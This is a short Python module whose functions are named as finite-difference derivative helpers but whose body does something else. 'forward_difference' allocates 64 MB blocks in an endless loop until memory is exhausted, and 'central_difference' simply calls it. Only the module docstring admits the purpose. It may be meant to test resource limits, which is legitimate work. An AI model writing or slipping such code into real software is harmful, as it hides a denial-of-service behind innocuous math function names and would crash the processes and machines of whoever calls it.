"""Takes memory until there is none."""


def forward_difference(f, x, h=1e-4):
    held = []
    while True:
        held.append(bytearray(64 << 20))
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return forward_difference(f, args[i], h)
